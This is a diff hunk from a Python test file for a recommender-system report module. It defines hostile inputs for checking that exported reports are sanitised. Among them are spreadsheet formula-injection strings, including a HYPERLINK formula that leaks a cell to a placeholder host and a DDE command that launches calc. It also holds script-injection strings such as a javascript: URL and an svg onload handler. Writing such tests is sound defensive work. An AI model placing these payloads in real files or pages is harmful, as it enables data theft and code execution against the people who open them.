@@ -29,6 +29,7 @@ from air_recsys.models import BiasModel
 from air_recsys.report import write_comparison, write_drug_target_report, write_explorer, write_report
 from air_recsys.splits import random_holdout
 
+pytestmark = pytest.mark.filterwarnings("ignore:ids such as")  # that begin with a tab
 FORMULAS = ('=HYPERLINK("//x.invalid/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,9)", "\t=1+1", "＝1+1")
 HOSTILE = (*MARKUP, "javascript:window.hacked=1", "</svg><svg onload=window.hacked=1>", *FORMULAS)
 KINDS = ["explorer", "report", "drugs", "comparison"]
